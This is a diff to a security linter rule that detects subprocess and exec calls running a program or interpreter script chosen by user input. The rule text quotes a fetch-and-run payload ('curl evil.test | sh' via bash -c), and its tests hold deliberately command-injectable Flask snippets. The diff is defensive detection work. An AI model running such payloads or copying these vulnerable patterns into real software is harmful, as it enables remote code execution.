@@ -5,22 +5,8 @@ from __future__ import annotations
 import ast
 
 from tabguard.engine.rule import Invalid, Rule
-from tabguard.rules.injection._shell import EXEC_FUNCS, SUBPROCESS_CALLS
+from tabguard.rules.injection._shell import launched, script_argument, shell_enabled
 from tabguard.rules.injection._strings import formatted_pieces
-
-_EXEC_CALLS = SUBPROCESS_CALLS | {"asyncio.create_subprocess_exec", "pty.spawn"}
-
-
-def _program(call: ast.Call, callee: str, ctx) -> ast.expr | None:
-    if callee.startswith("os.spawn"):
-        return call.args[1] if len(call.args) > 1 else None
-    if EXEC_FUNCS.match(callee):
-        return call.args[0] if call.args else None
-    first = ctx.argument(call, 0, "args") if callee in SUBPROCESS_CALLS else (call.args[0] if call.args else None)
-    if isinstance(first, (ast.List, ast.Tuple)):
-        return first.elts[0] if first.elts else None
-    return first
-
 
 class TaintedExecutable(Rule):
     id = "TG102"
@@ -29,10 +15,13 @@ class TaintedExecutable(Rule):
     confidence = "high"
     cwe = (78, 88)
     owasp = "A05:2025"
-    message = "`{callee}` runs a program chosen by user input ({source})"
-    placeholders = {"callee": "subprocess.run", "source": "request data"}
+    message = "`{callee}` runs {what} chosen by user input ({source})"
+    placeholders = {"callee": "subprocess.run", "source": "request data", "what": "a program"}
     aliases = ("B603", "B606", "S603", "S606")
-    what = "The program started by `{callee}` (or its whole argument list) comes from {source}."
+    what = (
+        "The program started by `{callee}` (or its whole argument list, or the script an interpreter "
+        "such as `python` or `bash` runs) comes from {source}."
+    )
     why = (
         "An argument list stops shell parsing, but not the choice of program: a request that sends "
         "`[\"bash\", \"-c\", \"curl evil.test | sh\"]` or `/usr/bin/python3` as the tool name runs anything "
@@ -53,26 +42,27 @@ class TaintedExecutable(Rule):
         'import subprocess\nTOOLS = {"lint": ["ruff", "check"]}\ndef f(request):\n'
         '    name = request.GET["tool"]\n    if name in TOOLS:\n        subprocess.run(TOOLS[name])\n',
         'import subprocess\ndef f(prog):\n    subprocess.run([prog, "--version"])\n',
+        'import subprocess\nfrom flask import request\ndef f():\n    subprocess.run(["python3", "tool.py", request.form["arg"]])\n',
     )
     INVALID = (
         Invalid('import subprocess\nfrom flask import request\ndef run():\n    subprocess.run(request.json["argv"])\n'),
         Invalid('import subprocess, sys\nsubprocess.Popen([sys.argv[1], "--help"])\n'),
         Invalid('import os\nfrom flask import request\ndef f():\n    os.execvp(request.args["p"], [request.args["p"]])\n'),
+        Invalid('import subprocess\nfrom flask import request\ndef f():\n    subprocess.run(["python3", request.form["script"]])\n'),
     )
 
     def visit_Call(self, node: ast.Call, ctx) -> None:
         callee = ctx.call_name(node) or ""
-        if callee not in _EXEC_CALLS and not EXEC_FUNCS.match(callee):
-            return
-        if ctx.keyword(node, "shell") is not None and callee in SUBPROCESS_CALLS:
-            shell = ctx.keyword(node, "shell").value
-            if not (isinstance(shell, ast.Constant) and not shell.value):
-                return  # TG100's case
-        program = _program(node, callee, ctx)
+        launch = launched(node, callee, ctx)
+        if launch is None or shell_enabled(node, ctx):
+            return  # shell=True is TG100's case
+        program, argv = launch
         parts = formatted_pieces(program) if program is not None else None
         if parts and isinstance(parts[0], str) and " " in parts[0]:
             return  # "grep -R {}" without a shell names a program "grep -R ...": the user picks no program
         source = ctx.taint(program)
+        what = "a program"
         if source is None:
-            return
-        ctx.report(self, node, details={"callee": callee}, source=source)
+            source, what = ctx.taint(script_argument(program, argv)), "a script"
+        if source is not None:
+            ctx.report(self, node, details={"callee": callee or ast.unparse(node.func), "what": what}, source=source)
